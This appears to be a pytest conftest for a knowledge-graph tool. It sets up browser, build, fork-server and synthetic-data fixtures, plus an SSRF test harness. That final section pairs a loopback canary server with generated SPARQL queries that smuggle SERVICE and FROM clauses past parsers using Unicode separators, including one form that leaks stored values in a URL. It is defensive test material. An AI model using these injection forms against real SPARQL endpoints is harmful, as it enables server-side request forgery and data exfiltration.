"""Browser fixtures: headless Debian Chromium driven by Playwright's sync API;
and the seeds graph, built once per session (once for all pytest-xdist workers).

Tests marked ``browser`` use the browser fixtures. They skip, saying why, when
``/usr/bin/chromium`` or Playwright is missing (CI installs both).
"""
from __future__ import annotations

import gc
import os
import pickle
import shutil
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
    "--disable-sync",
]


@pytest.fixture(scope="session")
def chromium_browser():
    """One headless Chromium for the whole session."""
    if not CHROMIUM.is_file():
        pytest.skip(f"{CHROMIUM} is missing: `apt-get install chromium` to run the browser tests")
    sync_api = pytest.importorskip(
        "playwright.sync_api", reason="playwright is missing: pip install -e '.[test]'")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield browser
        browser.close()


@pytest.fixture
def browser_page(chromium_browser):
    """A fresh page that may load ``file://`` only.

    Yields a namespace: ``page``; ``requests`` (every URL requested);
    ``blocked`` (non-file URLs, aborted); ``errors`` (console errors and
    uncaught exceptions); ``dialogs`` (alert/confirm/prompt messages, dismissed).
    """
    context = chromium_browser.new_context(viewport={"width": 1400, "height": 900})
    page = context.new_page()
    seen = SimpleNamespace(page=page, requests=[], blocked=[], errors=[], dialogs=[])

    def route(route):
        if route.request.url.startswith("file:"):
            route.continue_()
        else:
            seen.blocked.append(route.request.url)
            route.abort()

    def on_dialog(dialog):
        seen.dialogs.append(dialog.message)
        dialog.dismiss()

    context.route("**/*", route)
    page.on("request", lambda request: seen.requests.append(request.url))
    page.on("console", lambda msg: seen.errors.append(msg.text) if msg.type == "error" else None)
    page.on("pageerror", lambda exc: seen.errors.append(str(exc)))
    page.on("dialog", on_dialog)
    yield seen
    context.close()


@pytest.fixture(scope="module", autouse=True)
def _collect_at_each_file():
    """At each test file's start, all garbage is collected once, and what is alive frozen."""
    gc.unfreeze()
    gc.collect()
    gc.freeze()
    yield


@pytest.fixture(autouse=True)
def _collector_sees_young_objects_only(_collect_at_each_file):
    """What is alive when a test starts is frozen (``gc.freeze``): left out of the collector's scans.

    kg's ``Store.close`` runs ``gc.collect()`` so that pyoxigraph closes the database; a
    full collection scans every object of the process, and a test session holds many
    (spaCy's pipeline, module fixtures' graphs): each close took 0.1-1 s, and tests close
    thousands of stores. With the older objects frozen, a collection costs what the test
    made. Nothing else changes: every close still collects (the stores a test opens are its
    own), and what was frozen is let go and collected when the next file starts.
    """
    gc.freeze()
    yield


ROOT = Path(__file__).resolve().parent.parent
SEEDS = ROOT / "seeds"


def pytest_configure(config):
    """Python's bytecode of kg and of the tests is written (``__pycache__``, which git ignores) even
    where ``PYTHONDONTWRITEBYTECODE`` is set, in this process and in the processes it starts.

    Without it, every test process compiles kg from its source and rewrites the asserts of every
    test module (4 of the 5 s a worker took to collect), and so does every process a test starts
    (``kg`` commands, query processes, Dask workers, the notebook's kernel: hundreds); with it, the
    first process that imports a module compiles it, the others read the bytecode. Only where the
    bytecode goes changes, nothing of what runs.
    """
    sys.dont_write_bytecode = False
    os.environ.pop("PYTHONDONTWRITEBYTECODE", None)


# ---------------------------------------------------------------------------
# How pytest-xdist hands out the test files
# ---------------------------------------------------------------------------

def _schedule() -> dict:
    import json

    return json.loads((ROOT / "tests" / "data" / "schedule.json").read_text(encoding="utf-8"))


@pytest.hookimpl(optionalhook=True)
def pytest_xdist_auto_num_workers(config):
    """``-n auto``: ``workers_per_cpu`` of ``tests/data/schedule.json`` workers for each CPU this
    process may run on (rounded, at least one)."""
    cpus = len(os.sched_getaffinity(0)) if hasattr(os, "sched_getaffinity") else (os.cpu_count() or 1)
    return max(1, round(cpus * _schedule()["workers_per_cpu"]))


@pytest.hookimpl(optionalhook=True)
def pytest_xdist_make_scheduler(config, log):
    """``--dist loadfile`` as pytest-xdist does it (a file's tests in one worker), with the work
    units of ``tests/data/schedule.json``: the files of a "together" group are one unit (they share
    a session fixture too costly to make in two workers), and the "first" files are handed out
    first, longest first, so that no worker is left running a long file alone at the end."""
    if config.getvalue("dist") != "loadfile":
        return None
    from xdist.scheduler import LoadFileScheduling

    plan = _schedule()
    unit_of = {name: group[0] for group in plan["together"] for name in group}
    rank = {name: i for i, name in enumerate(plan["first"])}

    class Scheduling(LoadFileScheduling):
        ordered = False

        def _split_scope(self, nodeid: str) -> str:
            scope = super()._split_scope(nodeid)
            return unit_of.get(scope, scope)

        def _assign_work_unit(self, node) -> None:
            if not self.ordered:  # the first unit handed out: the queue is whole, in pytest-xdist's order
                units = sorted(self.workqueue.items(), key=lambda item: rank.get(item[0], len(rank)))
                self.workqueue.clear()
                self.workqueue.update(units)
                self.ordered = True
            super()._assign_work_unit(node)

    return Scheduling(config, log)


def _build_seeds(out: Path) -> None:
    """``kg build seeds --out OUT``, its report kept next to it (``OUT/../report.pickle``)."""
    import kg

    report = kg.build([SEEDS], out)
    (out.parent / "report.pickle").write_bytes(pickle.dumps(report))


@pytest.fixture(scope="session")
def _seeds_once(tmp_path_factory) -> Path:
    """The folder of the one seeds build of the test session.

    Under pytest-xdist every worker shares it: the first to come builds it
    in the base temp dir's parent (common to the workers) under a file lock,
    the others wait for the lock and find it done (pytest-xdist's
    "session-scoped fixture once" recipe).
    """
    if not os.environ.get("PYTEST_XDIST_WORKER"):
        folder = tmp_path_factory.mktemp("seeds-build")
        _build_seeds(folder / "out")
        return folder
    from filelock import FileLock

    folder = tmp_path_factory.getbasetemp().parent / "seeds-build"
    with FileLock(str(folder) + ".lock"):
        if not (folder / "done").is_file():
            if folder.exists():  # a worker that died half-way
                shutil.rmtree(folder)
            folder.mkdir()
            _build_seeds(folder / "out")
            (folder / "done").touch()
    return folder


@pytest.fixture(scope="session")
def seeds_build(_seeds_once) -> Path:
    """``kg build seeds`` (graph.ttl, graph.html, store/), once per session (slow: loads spaCy);
    the output folder. Shared by every test (and every xdist worker): read it, never write into it."""
    return _seeds_once / "out"


@pytest.fixture(scope="session")
def seeds_dir(seeds_build):
    """The seeds build, for tests that read graph.ttl or the store only."""
    return seeds_build


@pytest.fixture(scope="session")
def seeds_report(_seeds_once):
    """The :class:`kg.pipeline.BuildReport` of the seeds build."""
    return pickle.loads((_seeds_once / "report.pickle").read_bytes())


#: A process with kg and the spaCy pipeline loaded that forks a child for each kg command it is sent.
ZYGOTE = r"""
import json, os, sys
import kg.cli, kg.engines
kg.engines.load_resources(None)  # what takes a kg process seconds to start
from kg import geonames  # the GeoNames places an unknown place name is looked up in (read on first use: 2 s)
for code in ("SY", "IQ", "TR"):
    geonames.country_places(code)
    for near in geonames.country_index().neighbours.get(code, ()):
        geonames.country_places(near)
geonames.large_places()
# no module that a command's code patches (kg.store, kg.rdf, kg.pipeline, kg.html, ...) is loaded yet
out = os.fdopen(os.dup(1), "w")
for line in sys.stdin:
    job = json.loads(line)
    if job["op"] == "wait":
        pid, status = os.waitpid(job["pid"], 0 if job["block"] else os.WNOHANG)
        out.write(json.dumps(os.waitstatus_to_exitcode(status) if pid else None) + "\n")
        out.flush()
        continue
    pid = os.fork()
    if pid:
        out.write(json.dumps(pid) + "\n")
        out.flush()
        continue
    # the child: the command, as `python -c CODE ARGV...` would run it (CODE: `main(sys.argv[1:])` of kg.cli)
    out.close()
    os.chdir(job["cwd"])
    for fd, path in ((0, os.devnull), (1, job["stdout"]), (2, job["stderr"])):
        target = os.open(path, os.O_RDONLY if fd == 0 else os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        os.dup2(target, fd)
        os.close(target)
    sys.argv = ["-c", *job["argv"]]
    exec(compile(job["code"], "<kg command>", "exec"), {"__name__": "__main__"})
    sys.exit(0)
"""


class KgForks:
    """kg commands run in child processes forked from a process that has spaCy loaded (:data:`ZYGOTE`).

    They are real processes running kg's command line (signals, exit codes, locks, stdout and
    stderr are theirs) that start in milliseconds instead of seconds: for the tests that kill
    commands at chosen or random moments, tens of commands each. Their environment is the
    forking process's: the test process's when the fixture was first used (not a test's
    monkeypatched variables); their code may patch kg.store, kg.rdf, kg.pipeline, kg.html and
    kg.export before running (as ``python -c`` would), which the forking process has not loaded.
    """

    def __init__(self, folder: Path):
        import subprocess
        import sys

        self.folder = folder
        self.count = 0
        self.process = subprocess.Popen([sys.executable, "-c", ZYGOTE], cwd=ROOT, stdin=subprocess.PIPE,
                                        stdout=subprocess.PIPE, text=True)

    def _ask(self, job: dict):
        import json

        self.process.stdin.write(json.dumps(job) + "\n")
        self.process.stdin.flush()
        answer = self.process.stdout.readline()
        assert answer, "the process that forks kg commands died"
        return json.loads(answer)

    def start(self, argv: list[str], cwd: Path, code: str = "from kg.cli import main\nmain(sys.argv[1:])"):
        """Start ``kg ARGV...`` (or ``python -c CODE ARGV...``) in ``cwd``; a :class:`KgFork`."""
        self.count += 1
        out, err = self.folder / f"{self.count}.out", self.folder / f"{self.count}.err"
        pid = self._ask({"op": "fork", "argv": [str(a) for a in argv], "cwd": str(cwd), "code": "import sys\n" + code,
                         "stdout": str(out), "stderr": str(err)})
        return KgFork(self, pid, out, err)

    def run(self, argv: list[str], cwd: Path, code: str = "from kg.cli import main\nmain(sys.argv[1:])"):
        """``kg ARGV...`` to its end: a :class:`subprocess.CompletedProcess` (text stdout and stderr)."""
        return self.start(argv, cwd, code).wait()

    def close(self) -> None:
        self.process.stdin.close()
        self.process.wait(timeout=60)
        self.process.stdout.close()


class KgFork:
    """One kg command forked by :class:`KgForks`: ``pid``, :meth:`poll`, :meth:`kill`, :meth:`wait`."""

    def __init__(self, forks: KgForks, pid: int, out: Path, err: Path):
        self.forks, self.pid, self.out, self.err = forks, pid, out, err
        self.returncode: int | None = None

    def poll(self) -> int | None:
        if self.returncode is None:
            self.returncode = self.forks._ask({"op": "wait", "pid": self.pid, "block": False})
        return self.returncode

    def kill(self) -> None:
        import signal

        if self.poll() is None:
            os.kill(self.pid, signal.SIGKILL)

    def wait(self, timeout: float = 300):
        """Wait for the end (killing the command past ``timeout`` s: a hung test); its CompletedProcess."""
        import subprocess
        import time

        deadline = time.monotonic() + timeout
        while self.poll() is None and time.monotonic() < deadline:
            time.sleep(0.02)
        if self.returncode is None:
            os.kill(self.pid, 9)
            self.returncode = self.forks._ask({"op": "wait", "pid": self.pid, "block": True})
            raise subprocess.TimeoutExpired(["kg", "(forked)"], timeout)
        read = lambda path: path.read_text(encoding="utf-8") if path.exists() else ""  # noqa: E731 (killed early)
        return subprocess.CompletedProcess(["kg", "(forked)"], self.returncode, read(self.out), read(self.err))


@pytest.fixture(scope="session")
def kg_forks(tmp_path_factory):
    """:class:`KgForks`, one per test process."""
    forks = KgForks(tmp_path_factory.mktemp("forks"))
    yield forks
    forks.close()


def _by_value(triples) -> set:
    """Triples with ``xsd:decimal`` literals compared by value.

    kg writes decimals canonically, as Oxigraph keeps them (``"35"^^xsd:decimal``);
    rdflib's Turtle and TriG writers put that back as ``35.0``, which rdflib then
    reads as another term with the same value.
    """
    from rdflib import XSD, Literal

    def term(node):
        if isinstance(node, Literal) and node.datatype == XSD.decimal:
            return ("decimal", node.toPython())
        return node

    return {(s, p, term(o)) for s, p, o in triples}


@pytest.fixture
def by_value():
    """:func:`_by_value`, for tests that pass kg's graphs through rdflib's writers."""
    return _by_value


@pytest.fixture(scope="session")
def gaz():
    """kg's gazetteer (actors and places), loaded once."""
    from kg.gazetteer import load_gazetteer

    return load_gazetteer()


@pytest.fixture(scope="session")
def nlp(gaz):
    """The spaCy pipeline as kg adapts it (slow to load: once per session)."""
    from kg.engines import load_resources

    return load_resources(None)[0]


@pytest.fixture(scope="session")
def parsed_texts(nlp):
    """``parsed_texts(texts)``: the Docs of kg's pipeline for the texts (one ``nlp.pipe`` call for
    those not parsed yet), each text parsed once per process. The files that parse the same texts
    (the seeds, the construction table) run in one worker (``tests/data/schedule.json``, "together").
    The Docs are shared: read them, and put back anything changed."""
    done: dict = {}

    def parse(texts: list[str]) -> list:
        todo = list(dict.fromkeys(text for text in texts if text not in done))
        done.update(zip(todo, nlp.pipe(todo, batch_size=64)))
        return [done[text] for text in texts]

    return parse


# ---------------------------------------------------------------------------
# SSRF: a canary HTTP server on loopback, and queries that try to reach it
# ---------------------------------------------------------------------------

#: Characters that one parser or another may take as white space or a line end.
SEPARATORS = {
    "CR": "\r", "LF": "\n", "CRLF": "\r\n", "LFCR": "\n\r", "VT": "\x0b", "FF": "\x0c", "NEL": "\x85",
    "LS": "\u2028", "PS": "\u2029", "NBSP": "\xa0", "OGHAM": "\u1680", "MVS": "\u180e",
    **{f"U+{code:04X}": chr(code) for code in range(0x2000, 0x200B)},
    "ZWSP": "\u200b", "ZWNJ": "\u200c", "ZWJ": "\u200d", "NNBSP": "\u202f", "MMSP": "\u205f",
    "WJ": "\u2060", "IDSP": "\u3000", "BOM": "\ufeff", "TAB": "\t", "SPACE": " ", "NUL": "\x00",
    **{f"U+{code:04X}": chr(code) for code in range(0x1c, 0x20)},  # str.splitlines() line ends
}


class Canary:
    """An HTTP server on 127.0.0.1 that records every request it gets."""

    def __init__(self):
        import http.server
        import threading

        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                hits.append((self.command, self.path, self.headers.get("User-Agent")))
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_PUT = do_HEAD = do_GET

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="session")
def canary_server():
    running = Canary()
    yield running
    running.close()


@pytest.fixture
def canary(canary_server):
    """The canary, its hit list emptied."""
    canary_server.hits.clear()
    return canary_server


def _ssrf_queries(url: str, separators=None) -> list[tuple[str, str]]:
    """(name, query) pairs: every separator in comments, strings and IRIs around a SERVICE
    (or FROM) that Oxigraph would run if it read the separator as a line end or a space."""
    separators = SEPARATORS if separators is None else separators
    target = f"<{url}>"
    exfil = f'BIND(IRI(CONCAT("{url}", ENCODE_FOR_URI(STR(?o)))) AS ?u)'
    forms = {
        "comment": "SELECT * WHERE {{ # x{s}SERVICE {t} {{ ?a ?b ?c }} \n}}",
        "comment-silent": "SELECT * WHERE {{ #{s}SERVICE SILENT {t} {{ ?a ?b ?c }}\n}}",
        "comment-lower": "select * where {{ # x{s}service {t} {{ ?a ?b ?c }}\n}}",
        "comment-first": "# x{s}SELECT * WHERE {{ SERVICE {t} {{ ?a ?b ?c }} }}",
        # store labels in the URL: exfiltration
        "comment-var": "SELECT * WHERE {{ ?s ?p ?o " + exfil + " # x{s}LATERAL {{ SERVICE ?u {{ ?a ?b ?c }} }}\n}}",
        "comment-prefix": "PREFIX x: {t}\nSELECT * WHERE {{ # {s}SERVICEx:a {{ ?a ?b ?c }}\n}}",
        "comment-string": "SELECT * WHERE {{ # \"{s}SERVICE {t} {{ ?a ?b ?c }} # \"\n}}",
        "string": "SELECT * WHERE {{ BIND(\"x{s}\" AS ?v) # {s}SERVICE {t} {{ ?a ?b ?c }}\n}}",
        "string-long": "SELECT * WHERE {{ BIND(\"\"\"a{s}\"\"\" AS ?v) "
                       "BIND(\"\"\"{s}SERVICE {t} {{ ?a ?b ?c }}\"\"\" AS ?w) }}",
        "string-hash": "SELECT * WHERE {{ BIND(\"#{s}\" AS ?v) # {s}SERVICE {t} {{ ?a ?b ?c }}\n}}",
        "string-break": "SELECT * WHERE {{ BIND('a{s}SERVICE {t} {{ ?a ?b ?c }}' AS ?v) }}",
        "service-space": "SELECT * WHERE {{ SERVICE{s}{t} {{ ?a ?b ?c }} }}",
        "iri": "SELECT * WHERE {{ ?s ?p <http://x/{s}#> # {s}SERVICE {t} {{ ?a ?b ?c }}\n}}",
        # '<' is "less than" to the engine here: what follows the '#' is a comment to it
        "iri-hash": "SELECT * WHERE {{ ?s ?p ?o FILTER(1 <2#> \"\"\"{s}) SERVICE {t} {{ ?a ?b ?c }}\n"
                    "# \"\"\"\n}}",
        # ... and the quote after "&&" starts a string to it
        "iri-quote": "SELECT * WHERE {{ ?s ?p ?o FILTER(1 <2&&'b> && \"x' ) SERVICE {t} {{ ?a ?b ?c }} "
                     "#\"{s}) }}\n}}",
        "keyword-split": "SELECT * WHERE {{ SERV{s}ICE {t} {{ ?a ?b ?c }} }}",
        "from": "SELECT (COUNT(*) AS ?n) # x{s}FROM <http://example.org/nothing>\nWHERE {{ ?s ?p ?o }}",
        "from-named": "SELECT (COUNT(*) AS ?n) # {s}FROM NAMED <http://example.org/nothing>\n"
                      "WHERE {{ ?s ?p ?o }}",
    }
    return [(f"{form}/{name}", text.format(s=sep, t=target))
            for form, text in forms.items() for name, sep in separators.items()]


@pytest.fixture(scope="session")
def ssrf_queries():
    """:func:`_ssrf_queries`: ``ssrf_queries(canary.url)``."""
    return _ssrf_queries


def _generated_documents(n: int = 40, seed: int = 7):
    """kg-shaped documents (kg's own GraphBuilder): actors and places, some of two entities with one
    label (a walk must never split equal keys), all modalities, speakers, agreements, evidence dates;
    a sentence in two documents."""
    import random

    from kg.rdf import GraphBuilder
    from kg.records import Agreement, Claim, Document, Entity, EventDate, Span
    from kg.resources import load_data
    from kg.rdf import new_graph

    rng = random.Random(seed)
    relations = load_data("relations")["relations"]
    entities, names = {}, {}
    for i in range(24):
        label = f"Actor {i % 18}" if i < 20 else "Émir ünïcode"  # Actor 0..1 twice; non-ASCII labels
        entities[f"a{i}"] = Entity(f"a{i}", label, (rng.choice(("State", "ArmedGroup", "Person")),))
        names[f"a{i}"] = {f"A{i}"}
    for i in range(10):
        entities[f"p{i}"] = Entity(f"p{i}", f"Place {i % 8}", ("Place",), lat=30 + i, long=40 + i)
        names[f"p{i}"] = set()
    actors = [e for e in entities if e.startswith("a")]
    places = [e for e in entities if e.startswith("p")]
    shared = "A shared wire sentence about a truce."
    fragments = []
    for n_doc in range(n):
        doc_id = f"doc{rng.randint(0, 10 ** 6):07d}"  # identifiers not in document order
        claims, agreements, dates, offset = [], [], {}, 0
        for k in range(rng.randint(3, 9)):
            relation = rng.choice(list(relations))
            spec = relations[relation]
            subject = rng.choice(actors)
            obj = rng.choice(places) if spec["range"] == "Place" else rng.choice([a for a in actors if a != subject])
            if spec["domain"] == "Place":
                subject, obj = rng.sample(places, 2)
            text = shared if k == 0 and n_doc % 5 == 0 else f"Sentence {n_doc}-{k} on {relation} words."
            span = Span(offset, offset + len(text))
            modality = rng.choice(("asserted", "reported", "planned", "denied", "unconfirmed"))
            speaker = rng.choice(actors) if rng.random() < 0.4 else None
            claims.append(Claim(subject, relation, obj, doc=doc_id, sentence=span, text=text, rule="test",
                                modality=modality, speaker=speaker))
            if spec["family"] == "agreement" and rng.random() < 0.6:
                agreements.append(Agreement(doc=doc_id, sentence=span, text=text, kind="truce",
                                            parties=(subject, obj), places=(rng.choice(places),), anchor=offset))
            if rng.random() < 0.8:
                dates[span] = EventDate(f"201{rng.randint(5, 8)}-{rng.randint(1, 3):02d}-01", "month", "stated",
                                        "in the month")
            offset = span.end + 1
        body = " " * offset
        document = Document(id=doc_id, path=f"{doc_id}.txt", text=body, body=body, title=f"T {n_doc}",
                            date="2017-10-15", sha256=f"{n_doc:064x}")
        builder = GraphBuilder(new_graph())
        builder.add_document(document)
        builder.add_claims(claims, entities, names, dates=dates)
        builder.add_agreements(agreements, entities, names, dates=dates)
        fragments.append((doc_id, builder.graph))
    return fragments


@pytest.fixture(scope="session")
def generated_store(tmp_path_factory):
    """A store of the generated documents, committed as a build into a non-empty store commits them."""
    from kg.store import Store, ntriples

    path = tmp_path_factory.mktemp("generated") / "store"
    fragments = _generated_documents()
    with Store.open(path) as store:
        store.load_documents([(doc_id, ntriples(graph)) for doc_id, graph in fragments], staging=True)
        store.commit(replace=[doc_id for doc_id, _ in fragments])
    return path
